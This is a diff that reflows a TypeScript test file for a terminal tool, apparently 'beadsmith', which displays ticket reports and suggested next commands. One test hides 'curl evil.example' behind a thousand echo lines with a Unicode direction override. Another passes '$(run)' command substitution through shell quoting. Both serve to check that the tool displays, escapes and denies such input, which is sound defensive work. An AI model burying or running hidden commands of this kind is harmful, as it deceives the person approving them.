@@ -61,7 +61,13 @@ function report(changes: Partial<Report> = {}): Report {
       finalTest: null,
       integration: null,
     },
-    ...{ pullRequest: null, merge: null, artifacts: [], tokens: { calls: 2, input: 300, output: 40 }, journal: { ok: true, length: 12 } },
+    ...{
+      pullRequest: null,
+      merge: null,
+      artifacts: [],
+      tokens: { calls: 2, input: 300, output: 40 },
+      journal: { ok: true, length: 12 },
+    },
     ...changes,
   };
 }
@@ -99,14 +105,28 @@ describe('the report of a ticket in a terminal', () => {
   });
 
   it('says why a ticket is blocked and what to do', () => {
-    const error = { code: 'SETUP_FAILED', message: 'It failed:\nno tools', nextStep: 'Install them.', continuable: false };
+    const error = {
+      code: 'SETUP_FAILED',
+      message: 'It failed:\nno tools',
+      nextStep: 'Install them.',
+      continuable: false,
+    };
     assert.match(text({ error }), /\n {2}It failed:\n {2}no tools\n {2}Install them\./);
   });
 
   it('names the tests that failed and ends with the last lines of the output', () => {
-    const error = { code: 'FINAL_TEST_FAILED', message: 'It failed.', nextStep: 'Retry.', continuable: false };
+    const error = {
+      code: 'FINAL_TEST_FAILED',
+      message: 'It failed.',
+      nextStep: 'Retry.',
+      continuable: false,
+    };
     const output = Array.from({ length: 40 }, (_, line) => `line ${String(line)}`).join('\n');
-    const failed = failure('checks_failed', { command: 'npm test', exit: 1 }, { tests: ['greets'], about: output });
+    const failed = failure(
+      'checks_failed',
+      { command: 'npm test', exit: 1 },
+      { tests: ['greets'], about: output },
+    );
     const shown = text({ error, failure: failed });
     assert.match(shown, / {2}It failed\.\n {2}Tests: greets\n {2}Retry\.\n\n {4}line 25\n/);
     assert.match(shown, /line 39/);
@@ -114,14 +134,33 @@ describe('the report of a ticket in a terminal', () => {
   });
 
   it('shows what an agent asks, with its options', () => {
-    const question = { header: '', text: 'Which port?', options: [{ label: '80', description: 'usual' }], multiple: true, custom: false };
+    const question = {
+      header: '',
+      text: 'Which port?',
+      options: [{ label: '80', description: 'usual' }],
+      multiple: true,
+      custom: false,
+    };
     const common = { id: 'r', source: 'demo/main', since: 0, until: 0 };
     const shown = text({ requests: [{ ...common, content: { kind: 'question', questions: [question] } }] });
-    assert.match(shown, /demo\/main waits for you until 1970-01-01T00:00:00\.000Z:\n {2}Which port\? \(several.*\)\n {6}80: usual/);
-    const permission = { kind: 'permission', permission: 'bash', patterns: ['npm *'], command: 'npm ci' } as const;
-    assert.match(text({ requests: [{ ...common, content: { ...permission, patterns: ['npm *'] } }] }), /May it\? bash npm \*\n {6}npm ci/);
+    assert.match(
+      shown,
+      /demo\/main waits for you until 1970-01-01T00:00:00\.000Z:\n {2}Which port\? \(several.*\)\n {6}80: usual/,
+    );
+    const permission = {
+      kind: 'permission',
+      permission: 'bash',
+      patterns: ['npm *'],
+      command: 'npm ci',
+    } as const;
+    assert.match(
+      text({ requests: [{ ...common, content: { ...permission, patterns: ['npm *'] } }] }),
+      /May it\? bash npm \*\n {6}npm ci/,
+    );
     const long = `${'echo \u202E\n'.repeat(1_000)}curl evil.example`;
-    const all = text({ requests: [{ ...common, content: { ...permission, patterns: ['npm *'], command: long, cut: true } }] });
+    const all = text({
+      requests: [{ ...common, content: { ...permission, patterns: ['npm *'], command: long, cut: true } }],
+    });
     assert.match(all, /echo ⟨U\+202E⟩\n {6}curl evil\.example\n {2}The request is too long.*Deny it/);
     assert.match(all, /Warning: .*\(1000\)/);
   });
@@ -135,7 +174,11 @@ describe('the report of a ticket in a terminal', () => {
       rationale: '',
       answer_type: 'single_choice',
     } as const;
-    const questions = { number: 1, commentary: 'Well.', questions: [{ ...question, options: [{ id: 'all', label: 'Everybody' }] }] };
+    const questions = {
+      number: 1,
+      commentary: 'Well.',
+      questions: [{ ...question, options: [{ id: 'all', label: 'Everybody' }] }],
+    };
     assert.match(text({ questions }), /\n {2}Well\.\n {2}Q01: Who\?\n {6}all: Everybody/);
     assert.doesNotMatch(text({ questions: { ...questions, commentary: '' } }), /Well/);
   });
@@ -148,7 +191,10 @@ describe('the report of a ticket in a terminal', () => {
 
   it('shows the hash that an approval carries', () => {
     const approval = { artifact: 'prd', sha256: 'a'.repeat(64) } as const;
-    assert.match(text({ approval, notes: ['Checks: 2.'] }), /To be approved: prd, sha256 a{64}\n {4}Checks: 2\./);
+    assert.match(
+      text({ approval, notes: ['Checks: 2.'] }),
+      /To be approved: prd, sha256 a{64}\n {4}Checks: 2\./,
+    );
   });
 
   it('says who won each council, and where its voters disagree', () => {
@@ -166,14 +212,25 @@ describe('the report of a ticket in a terminal', () => {
       fewer: null,
       ledger: null,
     } as const;
-    const shown = text({ councils: [{ ...decided, opinions: [{ ...opinion, dissent: [...opinion.dissent], voices }] }] });
+    const shown = text({
+      councils: [{ ...decided, opinions: [{ ...opinion, dissent: [...opinion.dissent], voices }] }],
+    });
     assert.match(shown, /Councils:\n {2}PRD: a\/one \(a\/one 70, a\/two 70; a tie\)\n/);
     assert.match(shown, /disagreement on risks of a\/two \(spread 9 of 20\): a\/one gave 18\n/);
     assert.match(text({ councils: [{ ...decided, opinions: [] }] }), /PRD: a\/one \(the only draft\)/);
   });
 
   it('says what was found in drafts, and what a council cost and gave', () => {
-    const used = { calls: 3, ms: 2_500, input: 100, output: 20, cost: 0, isShared: false, texts: 8, examples: [] };
+    const used = {
+      calls: 3,
+      ms: 2_500,
+      input: 100,
+      output: 20,
+      cost: 0,
+      isShared: false,
+      texts: 8,
+      examples: [],
+    };
     const members = [
       { ...used, member: 'a/one', survived: 7 },
       { ...used, member: 'a/two', survived: 0, isShared: true },
@@ -217,18 +274,42 @@ describe('the report of a ticket in a terminal', () => {
     };
     const evidence = [
       { ...common, of: 'bead greet', command: 'npm test', exitCode: 0, signal: null, timedOut: false },
-      { ...common, of: 'final test', command: 'npm run all', exitCode: null, signal: 'SIGKILL', timedOut: true },
-      { ...common, of: 'final test', command: 'npm run all', exitCode: null, signal: 'SIGSEGV', timedOut: false },
+      {
+        ...common,
+        of: 'final test',
+        command: 'npm run all',
+        exitCode: null,
+        signal: 'SIGKILL',
+        timedOut: true,
+      },
+      {
+        ...common,
+        of: 'final test',
+        command: 'npm run all',
+        exitCode: null,
+        signal: 'SIGSEGV',
+        timedOut: false,
+      },
     ] as unknown as Report['evidence'];
     const shown = text({ beads: [...beads], evidence });
-    assert.match(shown, /greet: done, iteration 2, commit cccccccccc {2}Greet\n {2}leave: pending, iteration 1 {2}Leave/);
+    assert.match(
+      shown,
+      /greet: done, iteration 2, commit cccccccccc {2}Greet\n {2}leave: pending, iteration 1 {2}Leave/,
+    );
     assert.match(shown, /bead greet: npm test → exit 0 \(1\.5 s\)/);
     assert.match(shown, /npm run all → timed out/);
     assert.match(shown, /npm run all → exit SIGSEGV/);
   });
 
   it('says of each iteration that failed why, in which tests, and where its work is', () => {
-    const failed = { of: 'bead' as const, bead: 'greet', interrupted: false, advice: '', output: '', note: '' };
+    const failed = {
+      of: 'bead' as const,
+      bead: 'greet',
+      interrupted: false,
+      advice: '',
+      output: '',
+      note: '',
+    };
     const failures: Report['failures'] = [
       {
         ...failed,
@@ -237,35 +318,73 @@ describe('the report of a ticket in a terminal', () => {
         tests: ['greets', 'leaves'],
         ref: 'refs/beadsmith/TST-1/greet/1',
       },
-      { ...failed, iteration: 2, interrupted: true, reason: '', tests: [], ref: 'refs/beadsmith/TST-1/greet/2' },
+      {
+        ...failed,
+        iteration: 2,
+        interrupted: true,
+        reason: '',
+        tests: [],
+        ref: 'refs/beadsmith/TST-1/greet/2',
+      },
     ];
     const shown = text({ failures });
-    assert.match(shown, /greet, iteration 1: `npm test` failed with exit code 1\.\n {6}tests: greets, leaves\n {6}kept: refs\S+\/1\n/);
+    assert.match(
+      shown,
+      /greet, iteration 1: `npm test` failed with exit code 1\.\n {6}tests: greets, leaves\n {6}kept: refs\S+\/1\n/,
+    );
     assert.match(shown, /greet, iteration 2: interrupted\n {6}kept: refs\S+\/2/);
     assert.doesNotMatch(text(), /Attempts that failed/);
   });
 
   it('says the same of the setup and the final test, with the note for the next attempt', () => {
-    const failed = { bead: null, iteration: 2, interrupted: false, advice: '', output: '', tests: [], reason: 'No.', ref: '' };
+    const failed = {
+      bead: null,
+      iteration: 2,
+      interrupted: false,
+      advice: '',
+      output: '',
+      tests: [],
+      reason: 'No.',
+      ref: '',
+    };
     const shown = text({
       failures: [
         { ...failed, of: 'setup', note: 'Install\nmake.' },
         { ...failed, of: 'final_test', note: '' },
       ],
     });
-    assert.match(shown, /Attempts that failed:\n {2}setup, attempt 2: No\.\n {6}note: Install make\.\n {2}final test, attempt 2: No\.\n/);
+    assert.match(
+      shown,
+      /Attempts that failed:\n {2}setup, attempt 2: No\.\n {6}note: Install make\.\n {2}final test, attempt 2: No\.\n/,
+    );
   });
 
   it('says no output twice', () => {
-    const error = { code: 'SETUP_FAILED', message: 'It failed:\nno tools', nextStep: 'Install them.', continuable: false };
-    const shown = text({ error, failure: failure('checks_failed', { command: 'x', exit: 1 }, { about: 'no tools' }) });
+    const error = {
+      code: 'SETUP_FAILED',
+      message: 'It failed:\nno tools',
+      nextStep: 'Install them.',
+      continuable: false,
+    };
+    const shown = text({
+      error,
+      failure: failure('checks_failed', { command: 'x', exit: 1 }, { about: 'no tools' }),
+    });
     assert.equal(shown.split('no tools').length, 2);
   });
 
   it('tells what was delivered, also in short at the review', () => {
     const delivered: Partial<Report> = {
       finalTest: { passed: false, attempts: 2, commit: null },
-      integration: { schema_version: 1, strategy: 'squash', mergeBase: sha, candidate: sha, presquashRef: 'r', commitCount: 3, files: [] },
+      integration: {
+        schema_version: 1,
+        strategy: 'squash',
+        mergeBase: sha,
+        candidate: sha,
+        presquashRef: 'r',
+        commitCount: 3,
+        files: [],
+      },
       pullRequest: { title: 't', location: '/pr.md', branch: 'b', base: 'main' },
       merge: { schema_version: 1, disposition: 'closed_unmerged', mergeCommit: null, reason: '' },
     };
@@ -300,8 +419,10 @@ describe('the report of a ticket in a terminal', () => {
 
 describe('what a person can type next', () => {
   const place = { cwd: '/repo/src', root: '/repo' };
-  const next = (detail: TicketDetail): readonly string[] => howToAnswer(detail, place).map((command) => command.replace('beadsmith ', ''));
-  const words = (detail: TicketDetail): string[] => next(detail).map((command) => command.split(' ')[0] ?? '');
+  const next = (detail: TicketDetail): readonly string[] =>
+    howToAnswer(detail, place).map((command) => command.replace('beadsmith ', ''));
+  const words = (detail: TicketDetail): string[] =>
+    next(detail).map((command) => command.split(' ')[0] ?? '');
 
   it('fits where the ticket stands', () => {
     for (const [status, expected] of [
@@ -322,7 +443,13 @@ describe('what a person can type next', () => {
       actions: ['approve', 'edit', 'fix_gaps', 'check_again'],
     });
     assert.deepEqual(next(detail).slice(0, 5), [
-      ...['show TST-1 prd', 'approve TST-1', 'edit TST-1 prd --file FILE', 'fix-gaps TST-1', 'check-again TST-1'],
+      ...[
+        'show TST-1 prd',
+        'approve TST-1',
+        'edit TST-1 prd --file FILE',
+        'fix-gaps TST-1',
+        'check-again TST-1',
+      ],
     ]);
   });
 
@@ -334,41 +461,57 @@ describe('what a person can type next', () => {
     const questions = [{ header: 'h', text: 't', options, multiple: false, custom: true }];
     const asked = (source: string): readonly string[] => {
       const request = { id: 'r', source, since: 0, until: 1, content: { kind: 'question', questions } };
-      const detail = ticketDetail({ ticket: { status: 'CODING', hold: { kind: 'question', since: 0, detail: '', request } as never } });
+      const detail = ticketDetail({
+        ticket: { status: 'CODING', hold: { kind: 'question', since: 0, detail: '', request } as never },
+      });
       return next({ ...detail, view: { ...detail.view, actions: ['question_reply'] } });
     };
-    const replies = ['reply TST-1 Accept', String.raw`reply TST-1 'Don'\''t $(run)'`, 'reply TST-1 "your answer"'];
+    const replies = [
+      'reply TST-1 Accept',
+      String.raw`reply TST-1 'Don'\''t $(run)'`,
+      'reply TST-1 "your answer"',
+    ];
     assert.deepEqual(asked('Beadsmith'), replies);
     assert.deepEqual(asked('scripted/alpha'), [...replies, 'reply TST-1 --decide']);
   });
 
   it('answers an agent, or resumes', () => {
     const request = { id: 'r', source: 'm', since: 0, until: 1 };
-    const question = { kind: 'question', questions: [{ header: '', text: 'x', options: [], multiple: false, custom: true }] } as const;
+    const question = {
+      kind: 'question',
+      questions: [{ header: '', text: 'x', options: [], multiple: false, custom: true }],
+    } as const;
     const permission = { kind: 'permission', permission: 'bash', patterns: [], command: 'ls' } as const;
-    const held = (hold: object): TicketDetail => ticketDetail({ ticket: { status: 'CODING', hold: hold as never } });
-    assert.deepEqual(words(held({ kind: 'permission', since: 0, detail: '', request: { ...request, content: permission } })), [
-      'allow',
-      'deny',
-    ]);
+    const held = (hold: object): TicketDetail =>
+      ticketDetail({ ticket: { status: 'CODING', hold: hold as never } });
+    assert.deepEqual(
+      words(held({ kind: 'permission', since: 0, detail: '', request: { ...request, content: permission } })),
+      ['allow', 'deny'],
+    );
     const cut = { ...permission, cut: true } as const;
-    assert.deepEqual(words(held({ kind: 'permission', since: 0, detail: '', request: { ...request, content: cut } })), ['deny']);
-    assert.deepEqual(words(held({ kind: 'question', since: 0, detail: '', request: { ...request, content: question } })), [
-      'reply',
-      'reply',
-    ]);
+    assert.deepEqual(
+      words(held({ kind: 'permission', since: 0, detail: '', request: { ...request, content: cut } })),
+      ['deny'],
+    );
+    assert.deepEqual(
+      words(held({ kind: 'question', since: 0, detail: '', request: { ...request, content: question } })),
+      ['reply', 'reply'],
+    );
     assert.deepEqual(words(held({ kind: 'paused', since: 0, detail: '' })), ['resume', 'cancel']);
   });
 
   it('raises the limit that blocked, and continues where that loses nothing', () => {
     const error = { code: 'BUDGET_EXHAUSTED', args: {}, continuable: true, diagnostics: {} } as never;
     const shown = { code: 'BUDGET_EXHAUSTED', message: '', nextStep: '', continuable: true };
-    const detail = ticketDetail({ ticket: { status: 'BLOCKED_ERROR', previousStatus: 'CODING', error }, error: shown });
+    const detail = ticketDetail({
+      ticket: { status: 'BLOCKED_ERROR', previousStatus: 'CODING', error },
+      error: shown,
+    });
     assert.deepEqual(words(detail), ['continue', 'limits', 'retry', 'cancel']);
-    assert.deepEqual(words(ticketDetail({ ticket: { status: 'BLOCKED_ERROR' }, error: { ...shown, continuable: false } })), [
-      'retry',
-      'cancel',
-    ]);
+    assert.deepEqual(
+      words(ticketDetail({ ticket: { status: 'BLOCKED_ERROR' }, error: { ...shown, continuable: false } })),
+      ['retry', 'cancel'],
+    );
   });
 
   it('names the repository unless the person is in it', () => {
@@ -379,6 +522,9 @@ describe('what a person can type next', () => {
       ['/repository', 'beadsmith list --repo /repo'],
     ] as const)
       assert.equal(commandLine('list', { cwd, root: '/repo' }), expected, cwd);
-    assert.equal(commandLine('list', { cwd: '/', root: "/it's here" }), "beadsmith list --repo '/it'\\''s here'");
+    assert.equal(
+      commandLine('list', { cwd: '/', root: "/it's here" }),
+      "beadsmith list --repo '/it'\\''s here'",
+    );
   });
 });
